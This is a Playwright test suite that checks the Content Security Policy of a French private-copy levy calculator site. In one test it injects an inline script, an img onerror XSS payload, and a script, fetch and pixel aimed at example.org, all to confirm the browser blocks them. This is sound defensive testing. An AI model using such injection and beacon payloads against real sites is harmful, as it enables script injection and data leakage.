"""The Content Security Policy of every page, as a browser applies it: it blocks what it must, and nothing of ours."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import ConsoleMessage, Page, Route, expect

from tests.browser.test_calculator import PATIENCE, amount, ask

pytestmark = pytest.mark.browser

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
HOST = re.compile(r"https?:|//|\*|\bunsafe-inline\b|'unsafe-eval'")
WATCH = """addEventListener('securitypolicyviolation', ({violatedDirective, blockedURI, sourceFile, lineNumber}) =>
  console.log(`blocked: ${violatedDirective} ${blockedURI} ${sourceFile}:${lineNumber}`))"""


def pages(site_folder: Path) -> list[Path]:
    return sorted(site_folder.rglob("*.html"))


def watched(page: Page) -> list[str]:
    """The violations the page reports from now on, whichever page it shows."""
    blocked: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if message.text.startswith("blocked: ") or "Content Security Policy" in message.text:
            blocked.append(message.text)

    page.add_init_script(WATCH)
    page.on("console", note)
    return blocked


def far_host(page: Page) -> list[str]:
    """What another host is asked: it would answer with a script that runs, if the policy let the request out."""
    told: list[str] = []

    def answer(route: Route) -> None:
        told.append(route.request.url)
        cors = {"Access-Control-Allow-Origin": "*"}
        route.fulfill(status=200, content_type="text/javascript", headers=cors, body="self.ran = true")

    page.context.route("https://example.org/**", answer)
    return told


def test_every_page_has_the_same_policy_before_anything_else(site_folder: Path) -> None:
    """A page without it, or with another (instant navigation would add the two), is a door left open or shut."""
    policies = set()
    for file in pages(site_folder):
        text = file.read_text(encoding="utf-8")
        found = META.findall(text)
        assert len(found) == 1, file
        before = text[: text.index("Content-Security-Policy")]
        assert not re.search(r"<(script|link|style|img|body)\b", before), file
        policies.add(found[0])
    (policy,) = policies
    assert len(pages(site_folder)) > 50
    rules = dict(rule.partition(" ")[::2] for rule in policy.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["style-src"] == rules["connect-src"] == "'self'"
    assert HOST.findall(policy) == []


def test_a_walk_of_every_page_meets_no_violation(page: Page, site: str, site_folder: Path) -> None:
    """A blocked style or script is a page that looks or works worse for the policy's sake."""
    blocked = watched(page)
    addresses = [str(file.relative_to(site_folder)).removesuffix("index.html") for file in pages(site_folder)]
    for address in addresses:
        page.goto(site + address)
    assert page.url == site + addresses[-1]
    assert blocked == []


def test_the_calculator_and_the_tools_work_under_it(page: Page, site: str) -> None:
    """Instant navigation, search, previews, citing, engine, download: all under the policy, without a violation."""
    blocked = watched(page)
    page.goto(site)
    page.get_by_label("Quel appareil").fill("iPhone 5 32 Go")
    page.keyboard.press("Enter")
    amount(page, "9,90\u202f€")
    page.goto(site + "fr/decision-15-2012/tableau-10/")
    ask(page, capacite="18 Go")
    amount(page, "5,57\u202f€")
    with page.expect_download():
        page.get_by_role("button", name="Télécharger le calcul").click()
    page.locator(".lawnav__next").click()
    expect(page.locator("h1")).to_contain_text("Tableau n°\xa011")
    page.goto(site + "fr/decision-15-2012/art-5/")
    page.locator("#art_5__para_I .citer").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator(".popover")).to_be_visible()
    page.keyboard.press("Escape")
    page.locator("[data-md-component=search-query]").click()
    page.wait_for_load_state("networkidle")
    page.keyboard.type("copie privée")  # the theme listens to the keys
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=PATIENCE)
    page.keyboard.press("Escape")
    page.goto(site + "cote-a-cote/?gauche=fr/decision-15-2012/tableau-8&droite=be/ar-1996-03-28/art-2")
    expect(page.locator(".beside__law .law")).to_have_count(2, timeout=PATIENCE)
    assert blocked == []


@pytest.mark.parametrize("address", ["", "calculer/", "404.html", "fr/decision-15-2012/art-5/"])
def test_it_blocks_what_it_must(page: Page, site: str, address: str) -> None:
    """A policy that lets an injected script run, or a word out, protects nobody."""
    blocked = watched(page)
    told = far_host(page)
    page.goto(site + address)
    page.evaluate(
        """async () => {
          const script = document.createElement('script');
          script.textContent = 'window.ran = true';
          document.body.append(script);
          document.body.insertAdjacentHTML(
            'beforeend', '<img src=x onerror="window.ran = true"><b style="color: red">x</b>');
          const far = document.createElement('script');
          far.src = 'https://example.org/far.js';
          document.body.append(far);
          await fetch('https://example.org/told', { mode: 'no-cors' }).catch(() => {});
          new Image().src = 'https://example.org/pixel.png';
          await new Promise((done) => setTimeout(done, 300));
        }"""
    )
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.body.lastElementChild).color") != "rgb(255, 0, 0)"
    assert told == []
    kinds = {text.split()[1] for text in blocked if text.startswith("blocked: ")}
    assert {"script-src-elem", "connect-src", "img-src"} <= kinds


def test_the_engines_worker_is_bound_by_it_too(page: Page, site: str) -> None:
    """The privacy page says so: what Python does can reach no other host."""
    page.goto(site + "fr/decision-15-2012/tableau-10/")
    ask(page, capacite="18 Go")
    amount(page, "5,57\u202f€")
    worker = next(worker for worker in page.workers if worker.url.endswith("/worker.mjs"))
    tried = """async () => {
      const request = new XMLHttpRequest();
      request.open('GET', 'https://example.org/told');
      const sent = await new Promise((done) => {
        request.onload = () => done('sent'); request.onerror = () => done('refused'); request.send();
      });
      return [sent, await import('https://example.org/far.mjs').then(() => 'ran', () => 'refused')];
    }"""
    told = far_host(page)
    assert worker.evaluate(tried) == ["refused", "refused"]
    assert told == []


@pytest.mark.parametrize("address", ["fr/rien/", "nulle-part", "fr/decision-15-2012/art-99/?capacite=1Go"])
def test_an_address_that_does_not_exist_leads_somewhere(page: Page, site: str, address: str) -> None:
    """An English dead end tells a French reader that the site is broken."""
    blocked = watched(page)
    page.goto(site + address)
    expect(page.locator("h1")).to_have_text("Page introuvable")
    assert page.title().startswith("Page introuvable")
    page.locator("main").get_by_role("link", name="Calculer un montant").click()
    expect(page.locator("levy-calculator")).to_be_visible()
    assert blocked == []


def test_the_privacy_page_is_one_click_away_and_true(page: Page, site: str) -> None:
    """What it says is stored must be all that is stored."""
    page.goto(site + "fr/decision-15-2012/tableau-10/")
    ask(page, capacite="18 Go")
    amount(page, "5,57\u202f€")
    page.get_by_role("link", name="Confidentialité").last.click()
    expect(page.locator("h1")).to_have_text("Confidentialité")
    page.locator("[data-md-component=palette] label:visible").click()
    stored = page.evaluate("[Object.keys(localStorage), Object.keys(sessionStorage), document.cookie]")
    assert [key.rpartition(".")[2] for key in stored[0]] == ["__palette"]
    assert stored[1:] == [[], ""]
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
